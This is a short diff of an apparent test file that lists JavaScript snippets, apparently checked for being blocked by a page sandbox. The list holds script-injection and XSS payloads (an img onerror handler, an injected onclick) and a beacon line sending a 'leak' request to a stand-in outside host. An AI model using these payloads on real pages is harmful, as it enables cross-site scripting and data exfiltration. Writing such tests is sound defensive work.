@@ -88,7 +88,7 @@ def test_explore_works_and_hands_out_its_table(listening: Watched, root: str) ->
     [
         "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.head.append(s)",
         "document.body.innerHTML = '<img src=x onerror=window.ran=1>'",
-        "const s = document.createElement('script'); s.src = 'assets/js/copy.js'; document.head.append(s)",
+        "const s = document.createElement('script'); s.src = 'assets/js/site.js'; document.head.append(s)",
         "document.body.setAttribute('onclick', 'window.ran = 1'); document.body.click()",
         "new Image().src = 'https://outside.example/?leak'",
         "fetch('index.html').catch(() => {})",
